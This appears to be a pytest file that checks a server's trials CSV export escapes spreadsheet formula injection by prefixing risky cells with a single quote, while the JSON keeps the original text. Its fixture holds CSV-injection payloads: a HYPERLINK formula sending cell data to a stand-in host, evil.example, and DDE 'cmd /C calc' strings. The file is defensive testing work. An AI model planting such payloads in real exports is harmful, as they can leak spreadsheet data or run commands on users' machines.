"""The trials CSV export is safe to open in a spreadsheet (API pass): a cell starting with `=`, `+`, `-`, `@`, a
tab or a carriage return is run as a formula by spreadsheet apps, and an instruction `=HYPERLINK(...)` went into
trials.csv as it was. OWASP's advice: a single quote before such a cell. The JSON and the store keep the text."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from fastapi.testclient import TestClient

from server.app import create_app

from .isolated_settings import isolated_settings

HOSTILE = {
    "instruction": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "reason": "-2+3+cmd|' /C calc'!A0",
    "failed_node": "@SUM(1+1)*cmd|' /C calc'!A0",
    "failure": "+1",
    "planner": "\t=1+1",
    "segmenter": "\r=1+1",
}

# a line break inside a cell, then a formula: quoted, it stays in its cell (a bare CR began a new row there)
BROKEN_LINE = "stopped\r=1+1\n=2+2"


@pytest.fixture()
def client(tmp_path):
    with TestClient(create_app(replace(isolated_settings(tmp_path), workers=0))) as c:
        store = c.app.state.store  # type: ignore[attr-defined]
        store.create_batch("batch-csv", {"suite": "builtin", "trial_count": 2})
        store.create_trial(
            "batch-csv-0000-lift_block-0",
            task="lift_block",
            batch_id="batch-csv",
            status="done",
            verdict="tree_failed",
            success=False,
            wall_time_s=-1.5,  # a number, negative: not a formula
            sim_time_s=2.25,
            cost_usd=0.0,
            **HOSTILE,
        )
        store.create_trial(
            "batch-csv-0001-lift_block-1",
            task="lift_block",
            seed=1,
            batch_id="batch-csv",
            status="done",
            verdict="success",
            success=True,
            instruction="lift the red block - gently",  # a '-' inside, not first: unchanged
            reason=BROKEN_LINE,
        )
        yield c


def test_cells_a_spreadsheet_would_run_are_quoted_in_the_trials_csv_only(client):
    text = client.get("/api/batches/batch-csv/trials.csv").text
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    hostile = rows["batch-csv-0000-lift_block-0"]
    for field, value in HOSTILE.items():
        assert hostile[field] == "'" + value, (field, hostile[field])  # one quote before, nothing else changed
    assert hostile["wall_time_s"] == "-1.5" and hostile["sim_time_s"] == "2.25"  # numbers stay numbers
    plain = rows["batch-csv-0001-lift_block-1"]
    assert plain["instruction"] == "lift the red block - gently" and plain["seed"] == "1"
    assert plain["reason"] == BROKEN_LINE and len(rows) == 2
    assert plain["success"] == "True" and plain["created_at"][:1].isdigit()
    # the JSON and the stored record keep exactly what was submitted
    listed = {t["id"]: t for t in client.get("/api/batches/batch-csv").json()["trials"]}
    stored = client.get("/api/trials/batch-csv-0000-lift_block-0").json()
    for field, value in HOSTILE.items():
        assert listed["batch-csv-0000-lift_block-0"][field] == value and stored[field] == value, field
    assert stored["wall_time_s"] == -1.5


def test_the_csv_endpoint_documents_it(client):
    doc = client.get("/openapi.json").json()["paths"]["/api/batches/{batch_id}/trials.csv"]["get"]["description"]
    assert "single quote" in doc and "OWASP" in doc
